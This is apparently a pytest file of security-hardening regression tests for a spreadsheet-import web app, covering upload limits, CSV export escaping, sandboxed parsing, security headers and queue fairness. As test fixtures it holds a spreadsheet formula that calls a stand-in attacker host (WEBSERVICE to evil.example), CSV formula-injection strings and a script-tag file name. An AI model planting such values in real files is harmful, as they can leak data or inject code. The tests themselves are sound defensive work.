"""The hardening issue's cases, each reproduced and shown fixed (cases 8 and 9: test_auth.py, test_no_500.py)."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app import create_app
from indicators.data_export import csv_bytes, export_frame
from indicators.ingest import import_workbook
from indicators.store import Store
from indicators.users import Users
from indicators.workbook import read_workbook
from indicators.workbook.container import Limits, check_container
from workbooks import long_workbook, rezip, save

ROOT = Path(__file__).resolve().parent.parent


# --- case 1: a flood of problems is bounded and grouped ----------------------------------------------

def test_one_mistyped_code_in_many_rows_is_one_problem_and_other_floods_are_counted():
    rows = [["grassrots_unions", 1950 + i % 100, "", f"g{i}", 1, "", "", ""] for i in range(5000)]
    rows += [["union_members", 2000 + i % 50, "", f"h{i}", "many", "", "", ""] for i in range(1000)]
    parsed = read_workbook(long_workbook(rows))
    by_rule: dict[str, list] = {}
    for problem in parsed.problems:
        by_rule.setdefault(problem.rule, []).append(problem)
    (typo,) = by_rule["did_you_mean"]  # the code in 5,000 rows: said once, with the count
    assert typo.params == {"suggestion": "基层工会组织数", "code": "grassroots_unions", "n": 5000}
    assert len(by_rule["not_a_number"]) == 200  # at most 200 of a rule are listed ...
    (more,) = [p for p in by_rule["more_problems"] if p.params["rule"] == "not_a_number"]
    assert more.params["n"] == 800  # ... and the rest are counted
    assert len(parsed.problems) < 420


# --- case 2: rows are counted as written, with or without r= ----------------------------------------------

def test_rows_without_a_number_count_against_the_row_limit():
    data = long_workbook([["grassroots_unions", 2009, "", "", 1, "", "", ""]])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    bare_rows = b"".join(b"<row><c t=\"n\"><v>1</v></c></row>" for _ in range(400))
    hostile = rezip(data, replace={"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", bare_rows + b"</sheetData>")})
    problems = check_container(hostile, Limits.from_settings({"max_rows": 300}))
    assert [p.rule for p in problems] == ["too_many_rows"]
    assert problems[0].params["row"] == "402"  # the header, the value row and 400 rows without numbers


# --- case 4: numbers are finite ---------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["inf", "Infinity", "-inf", "1e400", "nan"])
def test_infinite_and_undefined_numbers_are_not_numbers(text):
    long = read_workbook(long_workbook([["grassroots_unions", 2009, "", "", text, "", "", ""]]))
    assert [p.rule for p in long.problems] == ["not_a_number"]
    wb = openpyxl.Workbook()
    wb.active.append(["指标", "2009年"])
    wb.active.append(["基层工会组织数", text])
    wide = read_workbook(save(wb))
    assert [p.rule for p in wide.problems] == ["not_a_number"] and wide.observations.empty


# --- case 5: a file with thousands of regions ---------------------------------------------------------------

def test_twenty_thousand_regions_are_refused_in_one_message():
    rows = [["grassroots_unions", 2009, f"第{i}区", "", 1, "", "", ""] for i in range(20_000)]
    parsed = read_workbook(long_workbook(rows))
    assert [p.rule for p in parsed.problems] == ["too_many_unknown_regions"]
    assert parsed.problems[0].params["n"] == 20_000 and "第0区" in parsed.problems[0].message("zh")


# --- case 7: a carriage return cannot start a formula in a download ------------------------------------------

def test_a_line_break_inside_a_value_cannot_start_a_formula_in_the_csv(store):
    _, observations, _ = store.data()
    sample = observations.head(1).copy()
    sample["note"] = "F5\r=1+1"
    sample["source"] = "ok\n@SUM(1)"
    data = csv_bytes(export_frame(sample, 1)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert len(rows) == 2  # the header and one row: the line break stayed inside its cell
    assert "'F5\r=1+1" in rows[1] and "'ok\n@SUM(1)" in rows[1]
    assert not any(cell.startswith(("=", "@", "+", "-", "\t", "\r")) for row in rows for cell in row)
    assert all(field.startswith('"') for field in data.split("\r\n")[1].split(",")[:3])  # text is quoted


# --- case 10: the parse child dies with its parent ---------------------------------------------------------

CHILD_PROBE = """
import os, sys, time
sys.path.insert(0, {root!r})
from indicators.sandbox import run_bounded

def forever(path):
    with open(path, "w") as f:
        f.write(str(os.getpid()))
    time.sleep(600)

run_bounded(forever, {pidfile!r}, memory_mb=256, seconds=600)
"""


def test_the_parse_child_dies_with_the_process_waiting_for_it(tmp_path):
    pidfile = tmp_path / "child.pid"
    parent = subprocess.Popen([sys.executable, "-c", CHILD_PROBE.format(root=str(ROOT), pidfile=str(pidfile))])
    deadline = time.monotonic() + 30
    while not pidfile.exists() or not pidfile.read_text():
        assert time.monotonic() < deadline, "the child never started"
        time.sleep(0.05)
    child = int(pidfile.read_text())
    os.kill(parent.pid, signal.SIGKILL)  # the server or command line killed mid-parse
    parent.wait()
    deadline = time.monotonic() + 10
    while Path(f"/proc/{child}").exists() and "zombie" not in _state(child):
        assert time.monotonic() < deadline, "the parse child outlived its parent"
        time.sleep(0.05)


def _state(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/status").read_text().split("State:")[1].split("\n")[0].lower()
    except (OSError, IndexError):
        return "gone"


# --- case 11: a part stored twice; formulas that call outside ------------------------------------------------

def test_a_zip_holding_a_sheet_twice_is_refused():
    data = long_workbook([["grassroots_unions", 2009, "", "", 1, "", "", ""]])
    twice = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(twice, "w") as zout:
        for name in zin.namelist():
            zout.writestr(name, zin.read(name))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate name, as it should
            zout.writestr("xl/worksheets/sheet1.xml", zin.read("xl/worksheets/sheet1.xml"))
    problems = read_workbook(twice.getvalue()).problems
    assert [(p.rule, p.params["entry"]) for p in problems] == [("zip_duplicate", "xl/worksheets/sheet1.xml")]


def _with_external_formula(tmp_path) -> bytes:
    import xlsxwriter

    path = tmp_path / "webservice.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("数据")
    ws.write_row("A1", ["指标代码", "年份", "数值"])
    ws.write_row("A2", ["grassroots_unions", 2009])
    ws.write_formula("C2", '=WEBSERVICE("http://evil.example/x")', None, 2390)
    wb.close()
    return path.read_bytes()


def test_a_formula_calling_outside_is_flagged_and_its_original_download_warns(tmp_path):
    data = _with_external_formula(tmp_path)
    parsed = read_workbook(data)
    assert parsed.ok and parsed.observations["value"].tolist() == [2390]  # its saved value
    (flag,) = [p for p in parsed.problems if p.rule == "formula_external"]
    assert flag.severity == "warning" and flag.where == "数据!C2" and "WEBSERVICE" in flag.value
    app = create_app({"db": str(tmp_path / "s.db")})
    store: Store = app.server.config["APPLICATION"].store
    Users(store).add("ed", "editor-password", "editor")
    assert import_workbook(store, data, "webservice.xlsx", "ed").ok
    client = app.server.test_client()
    csrf = client.get("/login").get_data(as_text=True).split('name="csrf" value="')[1].split('"')[0]
    client.post("/login", data={"csrf": csrf, "name": "ed", "password": "editor-password"})
    warning = client.get("/download/revision/2")
    assert warning.mimetype == "text/html" and "WEBSERVICE" in warning.get_data(as_text=True)
    anyway = client.get("/download/revision/2?confirm=1")
    assert anyway.data == data and "attachment" in anyway.headers["Content-Disposition"]
    assert client.get("/download/revision/1").data[:2] == b"PK"  # the built-in workbook has none: no warning


# --- case 12: encrypted files, the same file again, headers and cookies --------------------------------------

def test_an_encrypted_workbook_has_its_own_message():
    import ole

    problems = read_workbook(ole.build({"EncryptionInfo": b"x", "EncryptedPackage": b"y"})).problems
    assert [p.rule for p in problems] == ["encrypted"]
    assert "密码" in problems[0].message("zh") and "password" in problems[0].message("en")


def test_the_current_revisions_own_file_again_makes_no_new_revision(store):
    data = long_workbook([["grassroots_unions", 2009, "", "", 2390, "", "", ""]])
    first = import_workbook(store, data, "2009.xlsx", "ed")
    assert first.ok and first.revision.id == 2
    again = import_workbook(store, data, "2009 (1).xlsx", "ed")
    assert again.revision is None and again.identical_to == 2 and again.problems == []
    assert [r.id for r in store.revisions()] == [1, 2]


def test_security_headers_and_secure_cookies(tmp_path):
    app = create_app({"db": str(tmp_path / "s.db"), "secure_cookies": True})
    client = app.server.test_client()
    page = client.get("/")
    csp = page.headers["Content-Security-Policy"]
    assert "script-src 'self' 'sha256-" in csp and "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'self'" in csp
    assert page.headers["X-Frame-Options"] == "SAMEORIGIN" and page.headers["X-Content-Type-Options"] == "nosniff"
    login = client.get("/login")
    assert "Secure" in login.headers.get("Set-Cookie", "") and "HttpOnly" in login.headers.get("Set-Cookie", "")


# --- case 6: a file name typed by a user cannot break a briefing -------------------------------------------

def test_a_hostile_file_name_and_notes_leave_the_pdf_briefing_whole(store):
    from indicators.application import Application
    from indicators.briefing import build_pdf

    app = Application({"db": store.url})
    data = long_workbook([["grassroots_unions", 2009, "", "", 2390, "", "<b>x</b> & <!--", "<script>x</script>"]])
    assert import_workbook(app.store, data, "<!--<script>x.xlsx", "ed").ok
    index = app.data_index()
    pdf, mimetype, _ = build_pdf(index, app.revision(index), "zh", "organisation", "xx市")
    assert pdf[:5] == b"%PDF-" and mimetype == "application/pdf"
    text = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True).stdout.decode()
    assert "<!--<script>x.xlsx" in text  # shown as typed, not read as markup


def test_the_page_groups_problems_and_the_marked_workbook_lists_every_one(tmp_path):
    """Case 1: the page shows a count and the first 20 of each kind; the marked workbook has them all."""
    app = create_app({"db": str(tmp_path / "s.db")})
    from layouts.pages.upload import problems_view  # a page module: imported once an app exists

    application = app.server.config["APPLICATION"]
    rows = [["union_members", 1950 + i % 150, "", f"g{i}", "many", "", "", ""] for i in range(1000)]
    job_id = application.start_check(long_workbook(rows), "flood.xlsx", "ed", "merge")
    deadline = time.monotonic() + 120
    while not application.jobs.get(job_id).finished:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    check = application.check_result(job_id)
    assert sum(p.rule == "not_a_number" for p in check.parsed.problems) == 200  # what the page can get
    with app.server.test_request_context("/"):
        view = problems_view(check, job_id, "zh")
    text = str(view)
    assert "以下同类问题共 1000 处" in text and "另有 980 处同类问题" in text
    assert text.count("“many”不是数字") == 20
    marked = openpyxl.load_workbook(io.BytesIO(application.marked_workbook(job_id, "zh")))
    listed = [row for row in marked["问题清单"].iter_rows(min_row=2, values_only=True) if row[0]]
    assert sum("不是数字" in str(row[3]) for row in listed) == 1000  # every one of them


def test_a_check_whose_page_left_is_cancelled_and_its_parse_child_killed(tmp_path, monkeypatch):
    """Case 1: the work went on after the browser closed. Now a check nobody polls is cancelled."""
    import indicators.jobs as jobs
    from indicators.application import Application
    from indicators.sandbox import SandboxError, run_bounded

    monkeypatch.setattr(jobs, "HEARTBEAT_SECONDS", 0.1)
    monkeypatch.setattr(jobs, "ABANDONED_SECONDS", 0.5)
    seen: list[str] = []

    @jobs.task("test_forever")
    def forever(app, payload, progress, cancelled):  # type: ignore[no-untyped-def]
        while True:
            progress(1, 2)
            time.sleep(0.05)

    app = Application({"db": str(tmp_path / "s.db")})
    job_id = app.jobs.submit("upload", "checks", "test_forever", None, owner="ed")
    deadline = time.monotonic() + 30
    while not (job := app.jobs.get(job_id)).finished:  # nobody calls polled(): the page is gone
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert (job.status, job.error) == ("cancelled", "abandoned")
    started = time.monotonic()
    with pytest.raises(SandboxError) as refused:
        run_bounded(time.sleep, 60, memory_mb=256, seconds=120, cancelled=lambda: seen.append("asked") or True)
    assert refused.value.what == "cancelled" and time.monotonic() - started < 10 and seen


# --- case 3: briefings cannot crowd out an editor's upload ----------------------------------------------

def test_a_burst_of_anonymous_briefings_neither_evicts_nor_delays_an_upload(tmp_path):
    from indicators.application import Application, UseCaseError

    app = Application({"db": str(tmp_path / "s.db")})
    check = app.start_check(long_workbook([["grassroots_unions", 2009, "", "", 2390, "", "", ""]]), "c.xlsx", "ed",
                            "merge")
    accepted = refused = 0
    for _ in range(21):
        try:
            app.start_briefing("pdf", "zh", "capacity", "anon:203.0.113.7")
            accepted += 1
        except UseCaseError as exc:
            assert exc.code == "busy"
            refused += 1
    assert (accepted, refused) == (2, 19)  # one reader gets two at a time, not the whole queue
    deadline = time.monotonic() + 60
    while not app.jobs.get(check).finished:  # on its own queue: it does not wait for them
        assert time.monotonic() < deadline
        time.sleep(0.05)
    assert app.jobs.get(check).status == "done" and app.check_result(check).ok  # and nothing evicted it


def test_sheets_are_counted_as_the_workbook_lists_them():
    wb = openpyxl.Workbook()
    for n in range(150):
        wb.create_sheet(f"空{n}")
    problems = read_workbook(save(wb)).problems
    assert [(p.rule, p.params["count"]) for p in problems] == [("too_many_sheets", 151)]
